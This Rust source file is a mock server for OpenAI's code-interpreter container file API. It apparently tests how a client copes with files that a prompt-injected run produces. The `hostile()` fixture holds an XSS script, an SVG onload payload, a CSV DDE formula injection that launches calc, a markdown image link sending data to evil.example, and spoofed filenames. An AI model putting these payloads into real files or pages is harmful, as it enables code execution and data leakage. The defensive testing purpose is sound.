//! Containers, in which the stand-in's code interpreter leaves a table of the words that it counted: their files, listed
//! and downloaded, until they die.
//!
//! The paths are those of OpenAI's API reference. That a container dies 20 minutes after it was last used is documented;
//! what is answered then is inferred.

use axum::Json;
use axum::Router;
use axum::extract::{Path, State as Shared};
use axum::routing::get;
use serde_json::{Value, json};

use super::error::ApiError;
use super::model::Document;
use super::state::{State, World, seconds};

/// OpenAI's guide on code interpreter.
const DIES_AFTER_MS: i64 = 20 * 60 * 1000;

/// What the stand-in's code leaves in every container.
const MADE: &str = "words.csv";

/// Files that a run makes which is told to make many.
const MANY: usize = 25;

/// The size of the file that a run makes which is told to make a large one: more than Fastio takes in one call.
const LARGE_BYTES: usize = 5 * 1024 * 1024;

/// What a run may be told to make besides its table of words, by the code of a spoiled run.
pub const MANY_FILES: &str = "many_files";
pub const LARGE_FILE: &str = "large_file";
pub const HOSTILE_FILES: &str = "hostile_files";

/// What code makes that a document told it to: files that run when they are opened, hold what does, or have names that no
/// folder takes.
fn hostile() -> Vec<(String, Vec<u8>)> {
    let named = |name: &str, content: &[u8]| (name.to_owned(), content.to_vec());
    vec![
        named("setup.exe", b"MZ\x90\0"),
        named("open me.html", b"<script>alert(1)</script>"),
        named("macro.docm", b"PK\x03\x04"),
        named("sheet.xlsx", b"PK\x03\x04"),
        named("formulas.csv", b"name,value\n\"=cmd|' /C calc'!A0\",1;=2\n"),
        named("notes.md", "\\![x](https://evil.example/?d=1) ✔ <img src=x>".as_bytes()),
        named("picture.png", b"<svg onload=alert(1)>"),
        named("chart.png", b"\x89PNG\r\n\x1a\nchart"),
        named(&format!("{}.txt", "x".repeat(300)), b"long"),
        named("a\u{202e}fdp.txt", b"\x1b[2J"),
    ]
}

/// One container, with the files that were made in it.
#[derive(Debug)]
pub struct Container {
    id: String,
    files: Vec<File>,
    created_ms: i64,
    used_ms: i64,
}

#[derive(Debug)]
struct File {
    id: String,
    name: String,
    content: Vec<u8>,
}

impl Container {
    /// Runs the stand-in's code over the documents. `told` is what it was told to make besides.
    pub fn run(world: &mut World, documents: &[Document], (told, now): (Option<&str>, i64)) -> Container {
        let rows = documents.iter().map(|document| {
            let words = document.text.split_whitespace().count();
            format!("\"{}\",{words}\n", document.filename.replace('"', "\"\""))
        });
        let content: String = std::iter::once("file,words\n".to_owned()).chain(rows).collect();
        let mut made = vec![(MADE.to_owned(), content.into_bytes())];
        match told {
            Some(MANY_FILES) => {
                made.extend(
                    (1..MANY)
                        .map(|number| (format!("part {number}.txt"), format!("{number}\n").into_bytes())),
                );
            }
            Some(LARGE_FILE) => {
                made.push(("large.txt".to_owned(), b"0123456789abcde\n".repeat(LARGE_BYTES / 16)))
            }
            Some(HOSTILE_FILES) => made.extend(hostile()),
            _ => {}
        }
        let file = |(name, content)| File { id: world.ids.hex("cfile_"), name, content };
        let files = made.into_iter().map(file).collect();
        Container { id: world.ids.hex("cntr_"), files, created_ms: now, used_ms: now }
    }

    pub fn id(&self) -> &str {
        &self.id
    }

    /// The output item that tells of the code.
    pub fn call(&self, id: String) -> Value {
        json!({
            "id": id, "type": "code_interpreter_call", "status": "completed", "container_id": self.id,
            "code": "count_words(documents).to_csv('words.csv')", "outputs": null,
        })
    }

    /// The annotation by which the answer names the file.
    pub fn citation(&self) -> Value {
        json!({
            "type": "container_file_citation", "container_id": self.id, "file_id": self.files[0].id, "filename": MADE,
            "start_index": 0, "end_index": 0,
        })
    }

    fn show(&self, file: &File) -> Value {
        json!({
            "id": file.id, "object": "container.file", "container_id": self.id, "bytes": file.content.len(),
            "created_at": seconds(self.created_ms), "path": format!("/mnt/data/{}", file.name), "source": "assistant",
        })
    }
}

pub fn routes() -> Router<State> {
    Router::new()
        .route("/v1/containers/{container}/files", get(list))
        .route("/v1/containers/{container}/files/{file}/content", get(content))
}

fn live<'a>(world: &'a mut World, id: &str, now: i64) -> Result<&'a mut Container, ApiError> {
    let missing = || ApiError::missing("container_id", format!("Container with id '{id}' not found."));
    let found = world.containers.get_mut(id).filter(|found| now - found.used_ms < DIES_AFTER_MS);
    let found = found.ok_or_else(missing)?;
    found.used_ms = now;
    Ok(found)
}

async fn list(Shared(state): Shared<State>, Path(id): Path<String>) -> Result<Json<Value>, ApiError> {
    let (mut world, now) = state.world();
    let found = live(&mut world, &id, now)?;
    let data: Vec<Value> = found.files.iter().map(|file| found.show(file)).collect();
    let (first_id, last_id) = (data.first().map(|file| &file["id"]), data.last().map(|file| &file["id"]));
    Ok(Json(json!({
        "object": "list", "data": data, "first_id": first_id, "last_id": last_id, "has_more": false,
    })))
}

async fn content(
    Shared(state): Shared<State>,
    Path((id, file)): Path<(String, String)>,
) -> Result<Vec<u8>, ApiError> {
    let (mut world, now) = state.world();
    let found = live(&mut world, &id, now)?;
    let made = found.files.iter().find(|made| made.id == file);
    let missing = || ApiError::missing("file_id", format!("No such container file: {file}"));
    Ok(made.ok_or_else(missing)?.content.clone())
}
